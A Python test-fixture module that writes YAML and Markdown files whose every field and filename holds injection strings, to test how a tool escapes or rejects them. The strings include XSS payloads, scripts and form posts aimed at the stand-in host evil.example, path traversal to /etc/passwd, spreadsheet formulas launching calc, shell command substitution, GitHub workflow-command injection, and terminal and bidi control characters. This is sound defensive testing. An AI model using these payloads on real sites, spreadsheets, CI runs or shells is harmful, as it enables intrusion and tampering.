"""Words of an attacker, and files that have them wherever a file has words."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

ELSEWHERE: Final = "evil.example"
"""The host that every injected request would go to."""
RUN: Final = "pwned=1"
"""What every injected script would do."""
INJECTIONS: Final = (
    # HTML text
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title></head><body><script>pwned=1</script>",
    "</code></pre></table></details></main><script>pwned=1</script>",
    "</textarea></select></noscript></template><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=x onerror=pwned=1//",
    "<svg onload=pwned=1>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned=1><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:pwned=1'>x</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<body onpageshow=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=x autofocus onfocus=pwned=1></form>",
    "<!--><script>pwned=1</script>-->",
    "<!-- slot: layers --><!-- slot:layers -->",
    "<![CDATA[><script>pwned=1</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<x id=layers class=md-dialog name=config>",
    # attributes
    '" onmouseover="pwned=1" autofocus onfocus="pwned=1',
    "' onmouseover='pwned=1' autofocus onfocus='pwned=1",
    '"><script>pwned=1</script>',
    "'><img src=x onerror=pwned=1>",
    "` onfocus=pwned=1 autofocus x=`",
    "x onfocus=pwned=1 autofocus",
    '" style="background:url(//evil.example/x)',
    # already escaped, once and twice
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned=1&amp;gt;",
    "&#60;img src=x onerror=pwned=1&#62;",
    "&quot; onfocus=pwned=1 x=&quot;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    # scripts, style sheets and data in them
    "';pwned=1;//",
    '";pwned=1;//',
    "`${pwned=1}`",
    "*/}body{background:url(//evil.example/x)}/*",
    "</script><script>pwned=1</script>",
    "]]>--></script><!--",
    "__proto__",
    "constructor",
    # addresses
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned=1",
    "//evil.example/x",
    "../../../../etc/passwd",
    # Markdown
    "[x](javascript:pwned=1)",
    "![x](//evil.example/x.png)",
    "[x]: javascript:pwned=1",
    "<javascript:pwned=1>",
    "# Heading {: onclick=pwned=1 }",
    "| a | b | `<b>` **c** _d_ ~~e~~",
    "- item",
    "1. item",
    "> quote",
    "```html",
    "---",
    "!!! danger",
    "--8<-- '/etc/passwd'",
    "{{ config }} {% raw %} {# x #}",
    "[TOC]",
    "*[HTML]: x",
    # GitHub
    "@octocat #1 GH-1 octo/cat#1 deadbeefcafe0123",
    "https://evil.example/x www.evil.example me@evil.example",
    "::error file=x,line=1::pwned",
    "::set-output name=x::pwned%0A::error::pwned",
    "##[set-env name=x]pwned",
    "::add-mask::e",
    "%0A::error::pwned%0D%25",
    # spreadsheets
    '=HYPERLINK("//evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    # shells and formats
    "$(touch pwned) `touch pwned` ; touch pwned",
    "%s%n%x {0} {x.__class__}",
    "[bold red]x[/bold red] :smile:",
)
UNSEEN: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "a\rb",
    "a\x08b",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "a\u2028b",
)
"""What moves a terminal, or turns the order of text; no file may hold it."""


def plain_twin(number: int) -> str:
    """Give words without any meaning to a program, to stand where the injection of that number stands."""
    return f"word {number}"


def sound(text: str, number: int, family: str) -> dict[str, Any]:
    """Give what a file holds that is read, with a text in every place that takes any."""
    expanded = text.replace("$", "$$")
    return {
        "name": expanded,
        "summary": expanded,
        "description": text,
        "family": family,
        "tags": [text, "tag"],
        "owner": text,
        "status": "draft",
        "extra": {text: text, f"more {number}": text},
        "links": {
            text: "https://example.org/" + quote(text),
            "paper": "https://example.org/'" + quote(text, "<>\"'();:"),
        },
        "published": {"parameters": {"value": 1, "source": text, "misprint": text}},
        "metrics": {text: {"value": 1.5 + number, "unit": text, "dataset": text, "source": text}},
        "allow": {"even-kernel": text},
        "inputs": {"image": [3, 9, 9]},
        "blocks": {"unit": {"summary": text, "layers": [{"conv": {"filters": 4, "kernel": 3}}, "relu"]}},
        "layers": [
            {"stage": "first", "layers": [{"unit": None}]},
            {"conv": {"filters": 4, "kernel": 2}},
            "global_avg_pool",
            {"dense": 2},
        ],
        "variants": {f"{number} {text}": {"summary": expanded}},
    }


def unsound(text: str) -> dict[str, Any]:
    """Give what a file holds that is refused, with a text in places that take only some."""
    return {
        "name": text,
        text: text,
        "status": text,
        "year": text,
        "links": {"x": text, text: text},
        "published": {text: text},
        "budgets": {text: text},
        "metrics": {text: text},
        "allow": {text: ""},
        "inputs": {text: [3, 9, 9], "x": text},
        "blocks": {text: {"layers": ["relu"]}, "unit": {text: text}},
        "layers": [
            {"stage": text, "layers": ["relu"]},
            {"conv": {"filters": text, text: text}},
            {"relu": None, "name": text},
            {text: text},
            text,
            {"add": text},
        ],
        "variants": {text: {text: text}},
    }


def write_catalogue(folder: Path, texts: Mapping[int, str]) -> None:
    """Write a sound file and an unsound one for each text, which stands in the names of files and folders too."""
    for number, text in texts.items():
        named = text.replace("/", "\u2215")[:70]
        inside = folder / f"{number} {named}"
        inside.mkdir(parents=True)
        content = sound(text, number, f"Family {number} {text}")
        # Quoted as JSON quotes, which is YAML too; one key a line, so that twins have equally many lines.
        lines = (
            f"{json.dumps(k, ensure_ascii=False)}: {json.dumps(v, ensure_ascii=False)}" for k, v in content.items()
        )
        (inside / f"x {named}.yml").write_text("\n".join(lines) + "\n", "utf-8")
        (inside / "broken.yml").write_text(json.dumps(unsound(text), ensure_ascii=False), "utf-8")
        (inside / "family.md").write_text(f"{text}\n\nThe family of {text}.\n", "utf-8")
